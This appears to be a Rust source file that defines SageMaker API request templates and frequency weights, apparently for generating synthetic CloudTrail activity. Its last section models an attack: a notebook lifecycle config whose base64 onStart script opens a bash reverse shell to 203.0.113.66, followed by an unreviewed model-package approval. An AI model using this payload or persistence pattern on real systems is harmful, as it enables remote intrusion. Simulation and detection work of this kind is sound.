//! SageMaker's calls, with the request parameters its API reference gives them.

use super::Access::{Read, Write};
use super::{Access, Guard, Shape};

/// A row: made by scientists `often`, by people now and then.
const fn row(
    name: &'static str,
    access: Access,
    guard: Guard,
    often: u64,
    request: &'static str,
    response: &'static str,
) -> Shape {
    // Guarded calls are the scientists' alone, whose accounts the budgets watch.
    let human = if matches!(guard, Guard::None) { often / 20 } else { 0 };
    Shape {
        service: "sagemaker",
        name,
        access,
        guard,
        weights: [human, 0, 0, 0, 0, often, 0],
        request,
        response,
        extra: "",
    }
}

#[rustfmt::skip]
pub(super) const SHAPES: &[Shape] = &[
    // Asking for compute.
    row("CreateTrainingJob", Write, Guard::Job, 20, r#"{"trainingJobName":"<resource>","hyperParameters":{"epochs":"<number:90>","learning_rate":"0.00<number:90>","sagemaker_program":"\"train.py\"","sagemaker_region":"\"<region>\""},"algorithmSpecification":{"trainingImage":"763104351884.dkr.ecr.<region>.amazonaws.com/pytorch-training:2.5.1-cpu-py311","trainingInputMode":"File","enableSageMakerMetricsTimeSeries":true},"roleArn":"arn:<partition>:iam::<account>:role/service-role/AmazonSageMaker-ExecutionRole","inputDataConfig":[{"channelName":"training","dataSource":{"s3DataSource":{"s3DataType":"S3Prefix","s3Uri":"s3://<bucket>/<key>","s3DataDistributionType":"FullyReplicated"}}}],"outputDataConfig":{"s3OutputPath":"s3://ml-output-<account>/models/"},"resourceConfig":{"instanceType":"<machine>","instanceCount":<count>,"volumeSizeInGB":30},"stoppingCondition":{"maxRuntimeInSeconds":86400},"enableNetworkIsolation":false,"tags":[{"key":"sagemaker:user-profile-arn","value":"arn:<partition>:sagemaker:<region>:<account>:user-profile/<domain>/<actor>"}]}"#, r#"{"trainingJobArn":"arn:<partition>:sagemaker:<region>:<account>:training-job/<resource>"}"#),
    row("CreateProcessingJob", Write, Guard::Job, 10, r#"{"processingJobName":"<resource>","processingResources":{"clusterConfig":{"instanceCount":<count>,"instanceType":"<machine>","volumeSizeInGB":30}},"stoppingCondition":{"maxRuntimeInSeconds":3600},"appSpecification":{"imageUri":"763104351884.dkr.ecr.<region>.amazonaws.com/sagemaker-scikit-learn:1.4-cpu-py311","containerEntrypoint":["python3","/opt/ml/processing/input/code/prepare.py"]},"roleArn":"arn:<partition>:iam::<account>:role/service-role/AmazonSageMaker-ExecutionRole","processingInputs":[{"inputName":"code","s3Input":{"s3Uri":"s3://<bucket>/<key>","localPath":"/opt/ml/processing/input/code","s3DataType":"S3Prefix","s3InputMode":"File"}}],"processingOutputConfig":{"outputs":[{"outputName":"train","s3Output":{"s3Uri":"s3://ml-output-<account>/prepared/","localPath":"/opt/ml/processing/train","s3UploadMode":"EndOfJob"}}]}}"#, r#"{"processingJobArn":"arn:<partition>:sagemaker:<region>:<account>:processing-job/<resource>"}"#),
    row("CreateTransformJob", Write, Guard::Job, 4, r#"{"transformJobName":"<resource>","modelName":"<resource>","transformInput":{"dataSource":{"s3DataSource":{"s3DataType":"S3Prefix","s3Uri":"s3://<bucket>/<key>"}},"contentType":"text/csv","splitType":"Line"},"transformOutput":{"s3OutputPath":"s3://ml-output-<account>/scored/"},"transformResources":{"instanceType":"<machine>","instanceCount":<count>}}"#, r#"{"transformJobArn":"arn:<partition>:sagemaker:<region>:<account>:transform-job/<resource>"}"#),
    row("CreateHyperParameterTuningJob", Write, Guard::Job, 2, r#"{"hyperParameterTuningJobName":"<resource>","hyperParameterTuningJobConfig":{"strategy":"Bayesian","hyperParameterTuningJobObjective":{"type":"Minimize","metricName":"validation:loss"},"resourceLimits":{"maxNumberOfTrainingJobs":<count>,"maxParallelTrainingJobs":<tenth>},"parameterRanges":{"continuousParameterRanges":[{"name":"learning_rate","minValue":"0.0001","maxValue":"0.1","scalingType":"Logarithmic"}]}},"trainingJobDefinition":{"staticHyperParameters":{"epochs":"10"},"algorithmSpecification":{"trainingImage":"763104351884.dkr.ecr.<region>.amazonaws.com/pytorch-training:2.5.1-cpu-py311","trainingInputMode":"File"},"roleArn":"arn:<partition>:iam::<account>:role/service-role/AmazonSageMaker-ExecutionRole","inputDataConfig":[{"channelName":"training","dataSource":{"s3DataSource":{"s3DataType":"S3Prefix","s3Uri":"s3://<bucket>/<key>"}}}],"outputDataConfig":{"s3OutputPath":"s3://ml-output-<account>/tuning/"},"resourceConfig":{"instanceType":"<machine>","instanceCount":1,"volumeSizeInGB":30},"stoppingCondition":{"maxRuntimeInSeconds":3600}}}"#, r#"{"hyperParameterTuningJobArn":"arn:<partition>:sagemaker:<region>:<account>:hyper-parameter-tuning-job/<resource>"}"#),
    row("StartPipelineExecution", Write, Guard::Job, 6, r#"{"pipelineName":"<resource>","pipelineExecutionDisplayName":"nightly","pipelineParameters":[{"name":"InputData","value":"s3://<bucket>/<key>"}],"clientRequestToken":"<uuid>"}"#, r#"{"pipelineExecutionArn":"arn:<partition>:sagemaker:<region>:<account>:pipeline/<resource>/execution/<hex:12>"}"#),
    row("CreateEndpoint", Write, Guard::Endpoint, 4, r#"{"endpointName":"<resource>","endpointConfigName":"<resource>-config","tags":[]}"#, r#"{"endpointArn":"arn:<partition>:sagemaker:<region>:<account>:endpoint/<resource>"}"#),
    row("UpdateEndpoint", Write, Guard::Endpoint, 3, r#"{"endpointName":"<resource>","endpointConfigName":"<resource>-config-<number:90>","retainAllVariantProperties":false}"#, r#"{"endpointArn":"arn:<partition>:sagemaker:<region>:<account>:endpoint/<resource>"}"#),
    row("UpdateEndpointWeightsAndCapacities", Write, Guard::Endpoint, 1, r#"{"endpointName":"<resource>","desiredWeightsAndCapacities":[{"variantName":"AllTraffic","desiredInstanceCount":<count>}]}"#, r#"{"endpointArn":"arn:<partition>:sagemaker:<region>:<account>:endpoint/<resource>"}"#),
    row("CreateNotebookInstance", Write, Guard::Compute, 1, r#"{"notebookInstanceName":"<resource>","instanceType":"<machine>","subnetId":"subnet-0<hex:16>","securityGroupIds":["sg-0<hex:16>"],"roleArn":"arn:<partition>:iam::<account>:role/service-role/AmazonSageMaker-ExecutionRole","kmsKeyId":"<uuid>","directInternetAccess":"Disabled","volumeSizeInGB":20,"rootAccess":"Disabled","platformIdentifier":"notebook-al2023-v1"}"#, r#"{"notebookInstanceArn":"arn:<partition>:sagemaker:<region>:<account>:notebook-instance/<resource>"}"#),
    row("StartNotebookInstance", Write, Guard::Compute, 4, r#"{"notebookInstanceName":"<resource>"}"#, "null"),
    row("CreateApp", Write, Guard::Compute, 6, r#"{"domainId":"<domain>","spaceName":"<resource>","appType":"JupyterLab","appName":"default","resourceSpec":{"sageMakerImageArn":"arn:<partition>:sagemaker:<region>:081325390199:image/sagemaker-distribution-cpu","instanceType":"ml.t3.medium"}}"#, r#"{"appArn":"arn:<partition>:sagemaker:<region>:<account>:app/<domain>/<resource>/JupyterLab/default"}"#),
    // Deleting and stopping.
    row("DeleteEndpoint", Write, Guard::Destroy, 2, r#"{"endpointName":"<resource>"}"#, "null"),
    row("DeleteEndpointConfig", Write, Guard::Destroy, 2, r#"{"endpointConfigName":"<resource>-config"}"#, "null"),
    row("DeleteModel", Write, Guard::Destroy, 3, r#"{"modelName":"<resource>"}"#, "null"),
    row("StopTrainingJob", Write, Guard::Destroy, 3, r#"{"trainingJobName":"<resource>"}"#, "null"),
    row("StopProcessingJob", Write, Guard::Destroy, 1, r#"{"processingJobName":"<resource>"}"#, "null"),
    // Looking at one thing by name.
    row("DescribeTrainingJob", Read, Guard::Describe, 40, r#"{"trainingJobName":"<resource>"}"#, "null"),
    row("DescribeModel", Read, Guard::Describe, 10, r#"{"modelName":"<resource>"}"#, "null"),
    row("DescribeEndpointConfig", Read, Guard::Describe, 8, r#"{"endpointConfigName":"<resource>-config"}"#, "null"),
    row("DescribeFeatureGroup", Read, Guard::Describe, 4, r#"{"featureGroupName":"<resource>"}"#, "null"),
    row("DescribePipeline", Read, Guard::Describe, 4, r#"{"pipelineName":"<resource>"}"#, "null"),
    // Signing in. The URL itself is a credential, and CloudTrail hides it.
    row("CreatePresignedDomainUrl", Write, Guard::SignIn, 6, r#"{"domainId":"<domain>","userProfileName":"<resource>","sessionExpirationDurationInSeconds":43200,"expiresInSeconds":300}"#, r#"{"authorizedUrl":"HIDDEN_DUE_TO_SECURITY_REASONS"}"#),
    row("CreatePresignedNotebookInstanceUrl", Write, Guard::SignIn, 3, r#"{"notebookInstanceName":"<resource>","sessionExpirationDurationInSeconds":43200}"#, r#"{"authorizedUrl":"HIDDEN_DUE_TO_SECURITY_REASONS"}"#),
    // The rest.
    row("ListTrainingJobs", Read, Guard::None, 60, r#"{"maxResults":100,"sortBy":"CreationTime","sortOrder":"Descending","statusEquals":"InProgress"}"#, "null"),
    row("ListEndpoints", Read, Guard::None, 40, r#"{"sortBy":"CreationTime","sortOrder":"Descending","maxResults":10}"#, "null"),
    row("ListModels", Read, Guard::None, 30, r#"{"sortBy":"CreationTime","sortOrder":"Descending","maxResults":10}"#, "null"),
    row("ListDomains", Read, Guard::None, 20, r#"{"maxResults":100}"#, "null"),
    row("ListApps", Read, Guard::None, 50, r#"{"domainIdEquals":"<domain>","maxResults":100}"#, "null"),
    row("ListNotebookInstances", Read, Guard::None, 20, r#"{"maxResults":10,"sortBy":"Name"}"#, "null"),
    row("ListTags", Read, Guard::None, 40, r#"{"resourceArn":"arn:<partition>:sagemaker:<region>:<account>:domain/<domain>"}"#, "null"),
    row("DescribeDomain", Read, Guard::None, 30, r#"{"domainId":"<domain>"}"#, "null"),
    row("DescribeApp", Read, Guard::None, 40, r#"{"domainId":"<domain>","spaceName":"<resource>","appType":"JupyterLab","appName":"default"}"#, "null"),
    row("DescribeUserProfile", Read, Guard::None, 30, r#"{"domainId":"<domain>","userProfileName":"<resource>"}"#, "null"),
    row("DescribeEndpoint", Read, Guard::None, 40, r#"{"endpointName":"<resource>"}"#, "null"),
    row("CreateModel", Write, Guard::None, 4, r#"{"modelName":"<resource>","primaryContainer":{"image":"763104351884.dkr.ecr.<region>.amazonaws.com/pytorch-inference:2.5.1-cpu-py311","mode":"SingleModel","modelDataUrl":"s3://<bucket>/<key>","environment":{"SAGEMAKER_PROGRAM":"inference.py","SAGEMAKER_CONTAINER_LOG_LEVEL":"20"}},"executionRoleArn":"arn:<partition>:iam::<account>:role/service-role/AmazonSageMaker-ExecutionRole"}"#, r#"{"modelArn":"arn:<partition>:sagemaker:<region>:<account>:model/<resource>"}"#),
    row("CreateEndpointConfig", Write, Guard::None, 3, r#"{"endpointConfigName":"<resource>-config","productionVariants":[{"variantName":"AllTraffic","modelName":"<resource>","initialInstanceCount":2,"instanceType":"ml.m5.large","initialVariantWeight":1}],"kmsKeyId":"<uuid>"}"#, r#"{"endpointConfigArn":"arn:<partition>:sagemaker:<region>:<account>:endpoint-config/<resource>-config"}"#),
    row("AddTags", Write, Guard::None, 6, r#"{"resourceArn":"arn:<partition>:sagemaker:<region>:<account>:training-job/<resource>","tags":[{"key":"team","value":"<actor>"}]}"#, r#"{"tags":[{"key":"team","value":"<actor>"}]}"#),
    // What only an attack does here. The script opens a shell to 203.0.113.66.
    row("StopNotebookInstance", Write, Guard::None, 0, r#"{"notebookInstanceName":"<resource>"}"#, "null"),
    row("UpdateNotebookInstance", Write, Guard::None, 0, r#"{"notebookInstanceName":"<resource>","lifecycleConfigName":"<resource>-setup"}"#, "null"),
    row("CreateNotebookInstanceLifecycleConfig", Write, Guard::None, 0, r#"{"notebookInstanceLifecycleConfigName":"<resource>","onStart":[{"content":"IyEvYmluL2Jhc2gKc2V0IC1lCm5vaHVwIGJhc2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjY2LzQ0MyAwPiYxICYK"}]}"#, r#"{"notebookInstanceLifecycleConfigArn":"arn:<partition>:sagemaker:<region>:<account>:notebook-instance-lifecycle-config/<resource>"}"#),
    row("CreateModelPackage", Write, Guard::None, 0, r#"{"modelPackageGroupName":"<resource>","inferenceSpecification":{"containers":[{"image":"763104351884.dkr.ecr.<region>.amazonaws.com/pytorch-inference:2.5.1-cpu-py311","modelDataUrl":"s3://<bucket>/<key>"}],"supportedContentTypes":["text/csv"],"supportedResponseMIMETypes":["text/csv"]},"modelApprovalStatus":"PendingManualApproval"}"#, r#"{"modelPackageArn":"arn:<partition>:sagemaker:<region>:<account>:model-package/<resource>/1"}"#),
    row("UpdateModelPackage", Write, Guard::None, 0, r#"{"modelPackageArn":"arn:<partition>:sagemaker:<region>:<account>:model-package/<resource>/1","modelApprovalStatus":"Approved","approvalDescription":"metrics are fine"}"#, r#"{"modelPackageArn":"arn:<partition>:sagemaker:<region>:<account>:model-package/<resource>/1"}"#),
];
